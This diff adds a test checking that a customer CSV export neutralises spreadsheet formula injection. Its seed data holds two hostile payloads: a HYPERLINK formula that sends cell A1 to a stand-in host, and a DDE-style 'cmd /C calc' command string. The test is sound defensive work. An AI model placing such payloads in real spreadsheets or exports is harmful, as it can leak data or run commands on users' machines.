@@ -148,6 +148,51 @@ describe('GET /api/customer/export/', () => {
     expect(await res.json()).toEqual({ customer_type: ['"Z" is not a valid choice.'] });
   });
 
+  test('neutralises cells a spreadsheet would run as formulas; the file imports back to the same values', async () => {
+    const principal = 'Formula Exporter';
+    const risky = [
+      {
+        name: '=HYPERLINK("https://example.com/x?"&A1,"Click")',
+        landline: '+61 2 9999 0000',
+        mobile_phone: '-0404 730 855',
+      },
+      { name: '@SUM(1+1)*cmd|" /C calc"!A0', company_details: '-5', address: '+1' },
+      { name: "'=already quoted", company_details: "'tis the season", address: '-' },
+      { name: 'Plain Name', company_details: '1-2-3', address: 'a=b' },
+    ];
+    for (const fields of risky) {
+      const res = await api.call('POST', '/api/customer/customers/', seedCustomer({ ...fields, principal }));
+      expect(res.status).toBe(201);
+    }
+    const text = await (
+      await api.call('GET', `/api/customer/export/?principal=${encodeURIComponent(principal)}`)
+    ).text();
+    // Quoted, with the apostrophe inside the quotes, as OWASP recommends.
+    expect(text).toContain(`"'=HYPERLINK(""https://example.com/x?""&A1,""Click"")"`);
+    expect(text).toContain(`"'+61 2 9999 0000",johndoe@example.com,"'-0404 730 855"`);
+    expect(text).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
+    expect(text).toContain(`"''=already quoted"`);
+    const cells = Papa.parse<string[]>(text.replace(/^\uFEFF/, '').trim()).data.flat();
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+
+    const res = await importCsv(text);
+    expect((await res.json()) as Report).toMatchObject({ created: risky.length, error_count: 0 });
+    const search = await api.call(
+      'GET',
+      `/api/customer/customers/?principal=${encodeURIComponent(principal)}&page_size=50`,
+    );
+    const { results } = (await search.json()) as { results: Record<string, unknown>[] };
+    const fields = ['name', 'landline', 'mobile_phone', 'company_details', 'address'];
+    const values = (row: Record<string, unknown>) => Object.fromEntries(fields.map((field) => [field, row[field]]));
+    expect(results).toHaveLength(risky.length * 2);
+    for (const original of risky) {
+      const copies = results.filter((row) => row.name === original.name).map(values);
+      expect(copies).toHaveLength(2);
+      expect(copies[0]).toEqual(copies[1] ?? {});
+      expect(copies[0]).toMatchObject(original);
+    }
+  });
+
   test('an exported file imports again', async () => {
     const exported = await (await api.call('GET', '/api/customer/export/?principal=Exporter')).text();
     const res = await importCsv(exported);
